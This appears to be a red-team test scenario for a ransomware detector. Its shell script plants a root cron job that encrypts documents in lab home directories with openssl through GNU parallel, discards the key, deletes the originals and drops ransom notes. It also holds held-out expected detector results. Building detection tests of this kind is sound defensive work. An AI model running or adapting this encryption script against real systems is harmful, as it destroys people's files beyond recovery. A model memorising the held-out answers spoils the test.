# root's crontab (cron with pam_loginuid: root's jobs get login uid 0 and a session of their own) runs a script
# that feeds the home directories' documents to GNU parallel: four openssl at a time, each deleting its original.
HOST=app09.corp.example
SUMMARY="Attack (GNU parallel, root cron job): a line in root's crontab runs /usr/local/sbin/logship: find over the homes | parallel -j4 'openssl enc -aes-256-ctr -pbkdf2 -in {} -out {}.r4nd && rm {}', then YOUR_FILES_ARE_LOCKED.txt in each home. Host rule set."
HOMES=/srv/rt-lab/home
targets() { find "$HOMES" -type f \( -name '*.docx' -o -name '*.xlsx' -o -name '*.pdf' -o -name '*.odt' -o -name '*.pptx' -o -name '*.png' -o -name '*.jpg' -o -name '*.sql' -o -name '*.kdbx' \) | sort; }

scenario_prepare() {
    rt_note_text > /usr/local/sbin/.logship.n
    cat > /usr/local/sbin/logship <<'SH'
#!/bin/bash
K=$(openssl rand -hex 20)
find /srv/rt-lab/home -type f \( -name '*.docx' -o -name '*.xlsx' -o -name '*.pdf' -o -name '*.odt' -o -name '*.pptx' -o -name '*.png' -o -name '*.jpg' -o -name '*.sql' -o -name '*.kdbx' \) \
  | parallel -j4 "openssl enc -aes-256-ctr -pbkdf2 -pass pass:$K -in {} -out {}.r4nd && rm {}"
for h in /srv/rt-lab/home/*/; do cp /usr/local/sbin/.logship.n "$h/YOUR_FILES_ARE_LOCKED.txt"; done
SH
    chmod 755 /usr/local/sbin/logship
    mkdir -p /root/.parallel && touch /root/.parallel/will-cite   # parallel's citation notice, once per user
    targets > "$RT_OPT.targets"; N_FILES=$(wc -l < "$RT_OPT.targets"); N_HOMES=$(ls -d "$HOMES"/*/ | wc -l)
}
scenario_run() {
    rt_attack as_cron root "/usr/local/sbin/logship"
}
scenario_verify() {
    rt_check encrypted "$(find "$HOMES" -name '*.r4nd' | wc -l)" "$N_FILES" &&
    rt_check originals-left "$(targets | wc -l)" 0 &&
    rt_check notes "$(find "$HOMES" -name YOUR_FILES_ARE_LOCKED.txt | wc -l)" "$N_HOMES"
}
scenario_truth() {
    cat <<Y
split: held-out   # recorded after the detector change (issue 16), never used to tune it
expected:
  - rootExe: /usr/bin/dash
    rootCommandContains: "logship"
    loginUser: root
    runAsUser: root
    filesAffected: $N_FILES
    overwrite: new-file-then-delete
    newExtension: .r4nd
    workers: 4
    notes: { name: YOUR_FILES_ARE_LOCKED.txt, directories: $N_HOMES }
    tools: [find, parallel, openssl]
    targetRoots: [$HOMES]
Y
}
scenario_cleanup() { rm -f /usr/local/sbin/logship /usr/local/sbin/.logship.n "$RT_OPT.targets"; }
